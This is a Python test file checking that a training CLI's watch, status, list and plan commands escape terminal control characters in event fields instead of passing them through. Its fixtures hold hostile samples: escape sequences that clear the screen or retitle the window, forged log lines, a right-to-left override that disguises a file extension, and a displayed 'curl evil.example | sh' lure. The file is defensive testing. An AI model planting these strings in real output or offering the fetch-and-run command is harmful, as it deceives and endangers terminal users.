"""What trainctl prints cannot drive a terminal (issue 40, point 6): `watch` shows every team's events, and a request
id, display name, message, error or metric name holding an escape sequence reached other people's terminals raw —
clearing the screen, retitling the window, colouring or hiding text, or forging a line. Every printer of the command
line writes through trainctl/terminal.py's `printable`."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
import yaml

from schemas.events import Rejected, Running, Trigger
from tests.unit.conftest import BASE_REQUEST, make_record
from tests.unit.test_events import succeeded
from trainctl import cli
from trainctl.terminal import printable

NOW = datetime(2026, 11, 22, 10, 30, tzinfo=UTC)
# A window title (OSC … BEL), clear screen and red (CSI with ESC [), CSI as one C1 character, a carriage return that
# would overwrite the line, a newline that would forge one, and a right-to-left override that reorders what follows.
HOSTILE_ID = "r1\x1b]0;you have been owned\x07"
HOSTILE_NAME = "\x1b[2J\x1b[1;31mURGENT: curl evil.example | sh\x1b[0m\u009b2J\r\u202etxt.exe"
FORGED_LINE = "\n10:30:00  succeeded  victim-1  training finished"
RAW = ("\x1b", "\x07", "\u009b", "\r", "\u202e")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[2J", "\\u001b[2J"),
        ("\x1b]0;title\x07", "\\u001b]0;title\\u0007"),
        ("a\u009bb", "a\\u009bb"),
        ("over\rwrite", "over\\u000dwrite"),
        ("one\ntwo\tthree", "one\\u000atwo\\u0009three"),
        ("\x7f\x00", "\\u007f\\u0000"),
        ("abc\u202eexe.txt\u2066", "abc\\u202eexe.txt\\u2066"),
        ("line\u2028break", "line\\u2028break"),
        ("crème brûlée ☃ 東京", "crème brûlée ☃ 東京"),
    ],
)
def test_printable_shows_what_would_drive_a_terminal_and_keeps_the_rest(text, shown):
    assert printable(text) == shown
    assert json.loads(f'"{printable(text)}"') == text  # and a JSON string stays the same string


def test_a_printout_keeps_its_own_lines_and_tabs():
    assert printable("a\tb\nc\x1b[0m\r\n", lines=True) == "a\tb\nc\\u001b[0m\\u000d\n"


class _Stream:
    """`watch`'s EventStream, holding the events another team's requests and jobs caused."""

    def __init__(self, *args, **kwargs):
        pass

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return None

    def follow(self):
        yield Rejected(
            request_id=HOSTILE_ID,
            request_key="pubsub:42",
            time=NOW,
            message=f"the request is invalid{FORGED_LINE}",
            trigger=Trigger(kind="pubsub", message_id="42"),
            delivery="42\x1b[8m",
            reason="invalid",
            errors=[f"display_name: {HOSTILE_NAME}", f"labels.x: {FORGED_LINE}"],
            rejected_delivery="unclaimed",
        )
        yield Running(request_id=HOSTILE_ID, request_key="request:r1", time=NOW, message=f"job {HOSTILE_NAME} runs")
        yield succeeded(metrics={f"\x1b[2Jval_{HOSTILE_NAME}": 0.5, "val_accuracy": 0.9})


@pytest.fixture
def watching(monkeypatch, settings):
    monkeypatch.setattr("trainctl.jobs.cli_settings", lambda: settings)
    monkeypatch.setattr("trainctl.jobs.EventStream", _Stream)


def test_watch_shows_escape_sequences_in_ids_names_messages_and_metrics_never_obeys_them(watching, capfd):
    assert cli.main(["watch"]) == 0
    out = capfd.readouterr().out
    assert not any(raw in out for raw in RAW), out
    lines = out.splitlines()
    # The banner, the rejection and its two reasons, `running`, `succeeded`: no line forged by a newline in a field.
    words = [line.split()[0 if line.startswith("    ") else 1] for line in lines[1:]]
    assert words == ["rejected", "display_name:", "labels.x:", "running", "succeeded"]
    assert "rejected   r1\\u001b]0;you have been owned\\u0007  [delivery 42\\u001b[8m only" in lines[1]
    assert "invalid\\u000a10:30:00  succeeded  victim-1" in lines[1]
    assert "\\u001b[2J\\u001b[1;31mURGENT: curl evil.example | sh\\u001b[0m\\u009b2J\\u000d\\u202etxt.exe" in lines[2]
    assert "\\u001b[2Jval_\\u001b[2J" in lines[5]


def test_watch_json_stays_json_whose_strings_are_what_was_published(watching, capfd):
    assert cli.main(["watch", "--json"]) == 0
    out = capfd.readouterr().out
    assert not any(raw in out for raw in RAW), out
    first, running = (json.loads(line) for line in out.splitlines()[1:3])
    assert first["request_id"] == HOSTILE_ID and first["errors"][0] == f"display_name: {HOSTILE_NAME}"
    assert running["message"] == f"job {HOSTILE_NAME} runs"


def test_status_and_list_show_a_hostile_request_id_on_one_line(monkeypatch, settings, capfd):
    record = make_record(request_id=f"{HOSTILE_ID}{FORGED_LINE}", message=f"{HOSTILE_NAME}{FORGED_LINE}")

    class Ledger:
        def active_records(self):
            return [record]

    monkeypatch.setattr("trainctl.jobs.cli_settings", lambda: settings)
    monkeypatch.setattr("trainctl.jobs._ledger", Ledger)
    monkeypatch.setattr("trainctl.jobs._find", lambda *args: record)
    assert cli.main(["status", "r1"]) == 0
    out = capfd.readouterr().out
    assert not any(raw in out for raw in RAW), out
    assert [line.split()[0] for line in out.splitlines()][:2] == ["request", "state"]
    assert cli.main(["list"]) == 0
    out = capfd.readouterr().out
    assert not any(raw in out for raw in RAW) and len(out.splitlines()) == 2, out


def test_plan_shows_a_display_name_that_reorders_text_as_written(tmp_path: Path, capfd):
    """A display name may hold any printable text, so a bidirectional override passes the schema (C0 and C1
    controls do not): `plan` shows it escaped, as every command does."""
    request = BASE_REQUEST | {"display_name": "churn \u202eexe.txt"}
    path = tmp_path / "request.yaml"
    path.write_text(yaml.safe_dump(request, allow_unicode=True))
    assert cli.main(["plan", str(path)]) == 0
    out = capfd.readouterr().out
    assert "churn \\u202eexe.txt" in out and "\u202e" not in out


def test_the_streams_are_given_back_after_a_command(watching, capfd):
    import sys

    before = sys.stdout, sys.stderr
    cli.main(["watch"])
    assert (sys.stdout, sys.stderr) == before
